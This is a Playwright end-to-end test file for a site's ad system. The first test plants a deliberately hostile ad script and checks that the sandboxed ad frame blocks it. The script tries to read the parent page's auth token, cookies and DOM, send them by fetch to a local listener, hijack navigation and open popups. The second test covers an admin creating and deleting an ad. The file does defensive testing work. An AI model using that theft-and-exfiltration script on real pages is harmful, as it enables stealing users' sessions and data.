import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, expect, test, type Browser } from '@playwright/test';
import type { ManagedAd } from '#contract/ads.ts';
import { CHROMIUM_ARGUMENTS, findBrowser } from '../../tools/chromium.ts';
import { axeOn } from '../axe.ts';
import { admin, PASSWORD, signedIn } from '../member.ts';

const site = () => process.env.KOMAWARI_E2E_URL ?? '';

/** A listener that an ad could tell what it found; answers everything. */
async function listener() {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end('<h1>elsewhere</h1>');
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  return { heard, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close: () => server.close() };
}

/** A browser that refuses windows nobody asked for, as those of people do; Playwright's own allows them. */
let browser: Browser;
test.beforeAll(async () => {
  browser = await chromium.launch({
    executablePath: findBrowser(),
    args: CHROMIUM_ARGUMENTS,
    ignoreDefaultArgs: ['--disable-popup-blocking'],
  });
});
test.afterAll(() => browser.close());

test('an ad reads nothing of the site, leads nowhere, opens no window by itself and moves nothing; a click opens one, and both are counted', async ({
  request,
}) => {
  const outside = await listener();
  const session = await admin(request);
  const headers = { authorization: `Bearer ${session.auth.access_token}` };
  // Only readers of Indonesian get it: the other tests have pages without ads.
  const code = `<a id="shop" href="${outside.url}/shop">A shop</a><script>
    const tell = (what) => fetch('${outside.url}/' + what).catch(() => {});
    for (const [name, read] of [['token', () => parent.localStorage.token], ['own', () => localStorage.token], ['cookie', () => document.cookie], ['dom', () => parent.document.title]]) {
      try { tell('read-' + name + '?' + read()); } catch { tell('refused-' + name); }
    }
    try { top.location = '${outside.url}/top'; } catch { tell('refused-top'); }
    try { parent.location.href = '${outside.url}/parent'; } catch { tell('refused-parent'); }
    tell(window.open('${outside.url}/window') ? 'opened' : 'refused-window');
    parent.postMessage('click', '*'); parent.postMessage('ad', '*', [new MessageChannel().port2]);
    try { frameElement.style.height = '900px'; } catch { tell('refused-size'); }
    document.body.style.cssText = 'height:3000px;width:3000px'; document.body.append('x'.repeat(2000));
  </script>`;
  const ad = (await (
    await request.post(`${site()}/api/admin/ads`, {
      headers,
      data: {
        name: 'Hostile',
        spot: 'top',
        code,
        languages: ['id'],
        pages: ['terms'],
        first_party: true,
        password: PASSWORD,
      },
    })
  ).json()) as ManagedAd;
  try {
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    const page = await context.newPage();
    await signedIn(page, session);
    await page.addInitScript(() => {
      (window as never as { shift: number }).shift = 0;
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) {
          (window as never as { shift: number }).shift += (entry as never as { value: number }).value;
        }
      }).observe({ type: 'layout-shift', buffered: true });
    });
    // On a busy machine the five seconds that an ad stays would be over too soon.
    await page.addInitScript(() => {
      const now = performance.now.bind(performance);
      performance.now = () => now() / 20;
    });
    const refused = [
      'refused-token',
      'refused-own',
      'refused-cookie',
      'refused-dom',
      'refused-top',
      'refused-parent',
      'refused-window',
      'refused-size',
    ];
    const counted = page.waitForRequest((sent) => sent.url().includes('/api/ads/seen'));
    await page.goto(`${site()}/id/tags`);
    await expect.poll(() => outside.heard.filter((each) => each.startsWith('/refused')).length).toBe(refused.length);
    expect(outside.heard.map((each) => each.slice(1)).sort()).toEqual([...refused].sort());
    expect(page.url()).toBe(`${site()}/id/tags`);
    expect(context.pages()).toHaveLength(1);
    expect(await page.evaluate(() => localStorage.getItem('token'))).toBe(session.auth.access_token);
    const box = page.locator('.ad__box').first();
    expect(await box.boundingBox()).toMatchObject({ width: 728, height: 90 });
    await counted;
    expect(await page.evaluate(() => (window as never as { shift: number }).shift)).toBe(0);
    // It has no colours of its own, and the page is dark.
    expect(
      await box
        .locator('iframe')
        .evaluate((frame) => [
          document.documentElement.dataset.theme,
          getComputedStyle(frame).backgroundColor,
          getComputedStyle(frame).colorScheme,
        ]),
    ).toEqual(['dark', 'rgb(255, 255, 255)', 'light']);

    // The same page again within five seconds keeps its ad; the frame is not made anew.
    const loads = outside.heard.length;
    await page.locator('.bar__nav a', { hasText: /Grup/ }).first().click();
    await expect(page).toHaveURL(/\/id\/groups/);
    expect(outside.heard).toHaveLength(loads);

    const [opened] = await Promise.all([
      context.waitForEvent('page'),
      page.frameLocator('.ad__box iframe').first().locator('#shop').click(),
    ]);
    await expect.poll(() => opened.url()).toBe(`${outside.url}/shop`);
    await expect
      .poll(
        async () => (await (await request.get(`${site()}/api/admin/ads/${ad.id}`, { headers })).json()) as ManagedAd,
      )
      .toMatchObject({ views: 1, clicks: 1 });

    // No ad stands on the pages of accounts, nor where there is no page.
    for (const path of ['/id/login', '/id/nowhere']) {
      await page.goto(site() + path);
      await expect(page.locator('.ad')).toHaveCount(0);
    }
    await context.close();
  } finally {
    await request.delete(`${site()}/api/admin/ads/${ad.id}`, { headers });
    outside.close();
  }
});

test('an admin writes an ad, sees how it looks before it is saved, and finds it in the list', async ({
  page,
  request,
}) => {
  const session = await admin(request);
  await signedIn(page, session);
  await page.goto(`${site()}/en/admin/ads`);
  await page.getByRole('link', { name: 'New ad' }).click();
  await page.getByLabel('Name', { exact: true }).fill('Festival');
  await page.getByLabel('Code').fill('<b>Comics festival</b>');
  await page.getByRole('button', { name: 'Show again' }).click();
  await expect(page.frameLocator('.ad-editor__frame').first().getByText('Comics festival')).toBeVisible();
  expect(
    await page
      .locator('.ad-editor__frame')
      .first()
      .evaluate((frame) => getComputedStyle(frame).backgroundColor),
  ).toBe('rgb(255, 255, 255)');
  // Readers of Indonesian are those of the other test.
  await page.getByLabel('हिन्दी').check();
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(page.locator('.error')).toBeVisible();
  await page.getByLabel('Your password').fill(PASSWORD);
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(page.getByRole('heading', { name: 'Festival' })).toBeVisible();
  expect((await axeOn(page).exclude('iframe').analyze()).violations).toEqual([]);
  await page.getByRole('button', { name: 'Delete' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
  await expect(page.getByRole('heading', { name: 'Manage ads' })).toBeVisible();
  await expect(page.getByText('Festival')).toHaveCount(0);
});
